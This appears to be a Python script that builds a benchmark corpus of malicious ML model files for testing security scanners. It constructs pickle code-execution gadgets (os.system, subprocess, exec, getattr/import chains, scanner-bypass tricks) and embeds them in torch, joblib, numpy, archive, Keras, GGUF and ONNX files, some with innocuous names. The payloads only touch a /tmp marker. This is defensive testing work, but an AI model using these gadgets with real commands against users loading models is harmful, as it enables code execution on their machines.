"""Malicious corpus: one folder per technique family.

Every payload is harmless: loaded, it would only ``touch /tmp/bench-marker-<name>``; run.py
checks afterwards that no marker exists (no tool executed anything). Pickle streams come from
the project's own fixture generator (tests/scan/payloads.py) or are built opcode by opcode
here; container files are written by the real libraries (torch, joblib, numpy, zipfile).
"""

from __future__ import annotations

import functools
import gzip
import io
import os
import pickle
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, "/work/main")
import formats as F
from tests.scan import payloads as P

MARKER_PREFIX = "/tmp/bench-marker-"
Entry = tuple[str, str, str]  # relative path, family, format


def marker(name: str) -> str:
    return f"{MARKER_PREFIX}{name}"


class Payload:
    """Unpickling calls os.system('touch MARKER') (pickled as posix.system, as Python does)."""

    def __init__(self, name: str) -> None:
        self.cmd = f"touch {marker(name)}"

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (self.cmd,))


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _s(text: str) -> bytes:
    return P._str(text)


# -- raw pickle streams ---------------------------------------------------------------------

def _reduce_proto(m: str, protocol: int) -> bytes:
    return P.reduce_os_system(m, protocol)


def _pickle_families() -> dict[str, dict[str, Callable[[str], bytes]]]:
    fams: dict[str, dict[str, Callable[[str], bytes]]] = {}
    fams["reduce-os-system"] = {
        f"reduce-p{p}.pkl": functools.partial(_reduce_proto, protocol=p) for p in range(6)}
    fams["reduce-os-system"]["builtins-exec.pkl"] = lambda m: (
        b"\x80\x04" + _g("builtins", "exec") + _s(f"import os; os.system('touch {m}')")
        + b"\x85R.")
    fams["reduce-os-system"]["subprocess-run.pkl"] = lambda m: (
        b"\x80\x02" + _g("subprocess", "run") + b"(" + _s("touch") + _s(m) + b"l\x85R.")
    fams["inst-obj-newobj"] = {
        "inst.pkl": P.inst_opcode, "obj.pkl": P.obj_opcode, "newobj-popen.pkl": P.newobj_popen,
        "newobj-ex-popen.pkl": lambda m: (
            b"\x80\x04" + _g("subprocess", "Popen") + b"(" + _s("touch") + _s(m) + b"l\x85}"
            + b"\x92.")}
    fams["stack-global-memo"] = {
        "memoize-binget.pkl": P.stack_global_memo,
        "binput-long-binget.pkl": lambda m: (
            b"\x80\x04" + _s("os") + b"q\x070" + _s("system") + b"r\x00\x01\x00\x000"
            + b"h\x07j\x00\x01\x00\x00\x93" + _s(f"touch {m}") + b"\x85R.")}
    fams["stack-global-dynamic"] = {"str-call-module.pkl": P.stack_global_dynamic}
    fams["getattr-import-gadget"] = {
        "getattr-import.pkl": P.getattr_gadget,
        "import-then-getattr-proto4.pkl": lambda m: (
            b"\x80\x04" + _s("builtins") + _s("getattr") + b"\x93" + _s("builtins")
            + _s("__import__") + b"\x93" + _s("os") + b"\x85R" + _s("system") + b"\x86R"
            + _s(f"touch {m}") + b"\x85R."),
        "importlib-import-module.pkl": lambda m: (
            b"\x80\x02" + _g("builtins", "getattr") + _g("importlib", "import_module")
            + _s("os") + b"\x85R" + _s("system") + b"\x86R" + _s(f"touch {m}") + b"\x85R.")}
    fams["dotted-traversal"] = {
        "torch-serialization-os.pkl": P.dotted_traversal,
        "shutil-os-system.pkl": lambda m: (
            b"\x80\x04" + _s("shutil") + _s("os.system") + b"\x93" + _s(f"touch {m}")
            + b"\x85R.")}
    fams["py2-builtin-names"] = {
        "builtin-eval.pkl": P.py2_builtin_eval,
        "builtin-getattr-import.pkl": lambda m: (
            _g("__builtin__", "getattr") + b"(" + _g("__builtin__", "__import__")
            + b"(S'os'\ntRS'system'\ntR(S'touch " + m.encode() + b"'\ntR.")}
    fams["numpy-ufunc-reconstruct"] = {
        "numpy-core.pkl": P.ufunc_resolver,
        "numpy-_core.pkl": lambda m: (
            b"\x80\x02" + _g("numpy._core", "_ufunc_reconstruct") + _s("os") + _s("system")
            + b"\x86R" + _s(f"touch {m}") + b"\x85R.")}
    fams["numpy-runstring"] = {"runstring.pkl": P.runstring_bypass}
    fams["torch-load-from-bytes"] = {"nested-pickle.pkl": P.nested_load_from_bytes}
    fams["functools-partial"] = {
        "partial.pkl": P.partial_gadget,
        "partial-of-partial.pkl": lambda m: (
            b"\x80\x02" + _g("functools", "partial") + _g("functools", "partial")
            + _g("os", "system") + b"\x85R" + _s(f"touch {m}") + b"\x86R)R.")}
    fams["ext-codes"] = {
        "ext1.pkl": P.extension_code,
        "ext2.pkl": lambda m: b"\x80\x02\x83\x01\x01" + _s(f"touch {m}") + b"\x85R.",
        "ext4.pkl": lambda m: b"\x80\x02\x84\x01\x00\x00\x00" + _s(f"touch {m}") + b"\x85R."}
    fams["broken-stream-nullifai"] = {
        "garbage-after-call.pkl": P.nullifai_broken,
        "truncated-no-stop.pkl": lambda m: P.reduce_os_system(m, 2)[:-1],
        "bad-opcode-after-call.pkl": lambda m: P.reduce_os_system(m, 4)[:-1] + b"\xff"}
    fams["second-pickle"] = {
        "benign-then-malicious.pkl": P.trailing_second_pickle,
        "three-pickles.pkl": lambda m: (pickle.dumps([1, 2], protocol=4)
                                        + pickle.dumps("x", protocol=2)
                                        + P.reduce_os_system(m, 0))}
    fams["global-mutation-build"] = {"build-on-global.pkl": P.build_on_global}
    fams["odd-extension-pickle"] = {
        "model.weights": lambda m: P.reduce_os_system(m, 2),
        "tokenizer.model": lambda m: P.getattr_gadget(m),
        "checkpoint.data": lambda m: P.reduce_os_system(m, 4)}
    return fams


# -- containers -----------------------------------------------------------------------------

def _torch_zip_with(members: dict[str, bytes], base: bytes) -> bytes:
    """Rewrite a torch zip: same members, some replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w") as dst:
        names = src.namelist()
        for name in names:
            data = members.pop(name) if name in members else src.read(name)
            dst.writestr(src.getinfo(name), data)
        for name, data in members.items():
            dst.writestr(name, data)
    return out.getvalue()


def _torch_files(root: Path) -> list[Entry]:
    import torch

    torch.manual_seed(0)
    sd = torch.nn.Linear(4, 2).state_dict()
    out: list[Entry] = []

    def save(rel: str, obj: object, fam: str, fmt: str, **kw: object) -> None:
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        torch.save(obj, p, **kw)  # type: ignore[arg-type]
        out.append((rel, fam, fmt))

    save("torch-zip-data-pkl/state-dict-plus-payload.pt",
         {"state_dict": sd, "hook": Payload("torch-zip-1")}, "torch-zip-data-pkl", "torch-zip")
    save("torch-zip-data-pkl/pytorch_model.bin", {"w": sd["weight"], "x": Payload("torch-zip-2")},
         "torch-zip-data-pkl", "torch-zip")
    buf = io.BytesIO()
    torch.save(sd, buf)
    base = buf.getvalue()
    prefix = zipfile.ZipFile(io.BytesIO(base)).namelist()[0].split("/")[0]
    swapped = _torch_zip_with({f"{prefix}/data.pkl": P.getattr_gadget(marker("torch-zip-3"))},
                              base)
    (root / "torch-zip-data-pkl/data-pkl-swapped.pth").write_bytes(swapped)
    out.append(("torch-zip-data-pkl/data-pkl-swapped.pth", "torch-zip-data-pkl", "torch-zip"))

    d = root / "torch-zip-odd-member"
    d.mkdir(parents=True, exist_ok=True)
    odd = {
        # an extra pickle under a name no extension filter matches
        "extra-member-no-ext.pt": {f"{prefix}/extra/tokenizer_state":
                                   P.reduce_os_system(marker("torch-odd-1"), 2)},
        # TorchScript's constants.pkl is unpickled by torch.jit.load
        "constants-pkl.pt": {f"{prefix}/constants.pkl": P.reduce_os_system(marker("torch-odd-2"),
                                                                           2)},
        # the tensor storage member holds a pickle instead of raw bytes
        "storage-is-pickle.pt": {f"{prefix}/data/0": P.reduce_os_system(marker("torch-odd-3"),
                                                                        2)},
    }
    for name, members in odd.items():
        (d / name).write_bytes(_torch_zip_with(members, base))
        out.append((f"torch-zip-odd-member/{name}", "torch-zip-odd-member", "torch-zip"))
    # a renamed top-level folder: torch.load accepts any single prefix
    renamed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(renamed, "w") as dst:
        for name in src.namelist():
            data = src.read(name)
            if name.endswith("/data.pkl"):
                data = P.reduce_os_system(marker("torch-odd-4"), 2)
            dst.writestr("weights.safetensors/" + name.split("/", 1)[1], data)
    (d / "renamed-prefix.pt").write_bytes(renamed.getvalue())
    out.append(("torch-zip-odd-member/renamed-prefix.pt", "torch-zip-odd-member", "torch-zip"))

    save("torch-legacy/legacy-state-dict-payload.pt", {"w": sd["weight"],
                                                       "x": Payload("torch-legacy-1")},
         "torch-legacy", "torch-legacy", _use_new_zipfile_serialization=False)
    save("torch-legacy/legacy-payload.bin", Payload("torch-legacy-2"), "torch-legacy",
         "torch-legacy", _use_new_zipfile_serialization=False)
    return out


def _joblib_files(root: Path) -> list[Entry]:
    import joblib
    import numpy as np

    d = root / "joblib"
    d.mkdir(parents=True, exist_ok=True)
    out: list[Entry] = []
    obj: dict[str, object] = {"coef": np.arange(10.0), "hook": None}
    for comp in (None, "zlib", "gzip", "bz2", "xz", "lzma"):
        name = f"model-{comp or 'plain'}.joblib"
        obj["hook"] = Payload(f"joblib-{comp or 'plain'}")
        joblib.dump(obj, d / name, compress=(comp, 3) if comp else 0)
        out.append((f"joblib/{name}", "joblib", f"joblib-{comp or 'plain'}"))
    obj["hook"] = Payload("joblib-lz4")
    raw = io.BytesIO()
    joblib.dump(obj, raw)
    (d / "model-lz4.joblib").write_bytes(F.lz4_frame(raw.getvalue()))
    out.append(("joblib/model-lz4.joblib", "joblib", "joblib-lz4"))
    return out


def _numpy_files(root: Path) -> list[Entry]:
    import numpy as np

    d = root / "numpy-object"
    d.mkdir(parents=True, exist_ok=True)
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = 1.5, Payload("numpy-npy")
    np.save(d / "object-array.npy", arr, allow_pickle=True)
    arr[1] = Payload("numpy-npz")
    np.savez(d / "object-in-npz.npz", weights=np.ones(3), meta=arr)
    arr[1] = Payload("numpy-npz-c")
    np.savez_compressed(d / "object-in-npz-compressed.npz", weights=np.ones(3), meta=arr)
    return [("numpy-object/object-array.npy", "numpy-object", "npy"),
            ("numpy-object/object-in-npz.npz", "numpy-object", "npz"),
            ("numpy-object/object-in-npz-compressed.npz", "numpy-object", "npz")]


def _archive_files(root: Path) -> list[Entry]:
    import torch

    d = root / "pickle-in-archive"
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(d / "model.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("config.json", "{}")
        z.writestr("model/model.pkl", P.reduce_os_system(marker("archive-zip"), 4))
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("model.pkl", P.reduce_os_system(marker("archive-nested"), 2))
    with zipfile.ZipFile(d / "nested.zip", "w") as z:
        z.writestr("bundle/inner.zip", inner.getvalue())

    def tar_gz(path: Path, members: dict[str, bytes]) -> None:
        with tarfile.open(path, "w:gz") as t:
            for name, data in members.items():
                info = tarfile.TarInfo(name)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))

    tar_gz(d / "model.tar.gz", {"model/README.md": b"# model\n",
                                "model/model.pkl": P.reduce_os_system(marker("archive-tgz"), 2)})
    buf = io.BytesIO()
    torch.save({"x": Payload("archive-torch-in-tgz")}, buf)
    tar_gz(d / "torch-in-tar.tar.gz", {"ckpt/pytorch_model.bin": buf.getvalue()})
    (d / "model.pkl.gz").write_bytes(gzip.compress(P.reduce_os_system(marker("archive-gz"), 2)))
    return [(f"pickle-in-archive/{n}", "pickle-in-archive", fmt) for n, fmt in (
        ("model.zip", "zip"), ("nested.zip", "zip"), ("model.tar.gz", "tar.gz"),
        ("torch-in-tar.tar.gz", "tar.gz"), ("model.pkl.gz", "gzip"))]


def _other_formats(root: Path) -> list[Entry]:
    from onnx import TensorProto, helper

    out: list[Entry] = []
    d = root / "keras-lambda"
    d.mkdir(parents=True, exist_ok=True)
    F.keras2_h5(d / "lambda.h5", marker("keras-h5"))
    F.keras3_archive(d / "lambda.keras", marker("keras-v3"))
    out += [("keras-lambda/lambda.h5", "keras-lambda", "keras-h5"),
            ("keras-lambda/lambda.keras", "keras-lambda", "keras-v3")]

    d = root / "gguf-jinja-template"
    d.mkdir(parents=True, exist_ok=True)
    (d / "ssti-template.gguf").write_bytes(F.tiny_llama_gguf(F.ssti_template(marker("gguf"))))
    out.append(("gguf-jinja-template/ssti-template.gguf", "gguf-jinja-template", "gguf"))

    d = root / "onnx-external-traversal"
    d.mkdir(parents=True, exist_ok=True)
    for name, location in (("relative-traversal.onnx", "../../../../../../etc/passwd"),
                           ("absolute-path.onnx", "/etc/hostname")):
        w = TensorProto()
        w.name, w.data_type = "W", TensorProto.FLOAT
        w.dims.extend([4])
        w.data_location = TensorProto.EXTERNAL
        for k, v in (("location", location), ("offset", "0"), ("length", "16")):
            w.external_data.add(key=k, value=v)
        graph = helper.make_graph(
            [helper.make_node("Add", ["X", "W"], ["Y"])], "g",
            [helper.make_tensor_value_info("X", TensorProto.FLOAT, [4])],
            [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [4])], [w])
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        (d / name).write_bytes(model.SerializeToString())
        out.append((f"onnx-external-traversal/{name}", "onnx-external-traversal", "onnx"))

    d = root / "safetensors-malformed"
    d.mkdir(parents=True, exist_ok=True)
    for name, data in F.safetensors_malformed().items():
        (d / name).write_bytes(data)
        out.append((f"safetensors-malformed/{name}", "safetensors-malformed", "safetensors"))
    return out


def build(root: Path) -> list[Entry]:
    """Write the malicious corpus under ``root``; returns (path, family, format) entries."""
    entries: list[Entry] = []
    for family, files in _pickle_families().items():
        (root / family).mkdir(parents=True, exist_ok=True)
        for name, make in files.items():
            stem = f"{family}-{name.split('.')[0]}"
            (root / family / name).write_bytes(make(marker(stem)))
            entries.append((f"{family}/{name}", family, "pickle"))
    entries += _torch_files(root)
    entries += _joblib_files(root)
    entries += _numpy_files(root)
    entries += _archive_files(root)
    entries += _other_formats(root)
    return entries
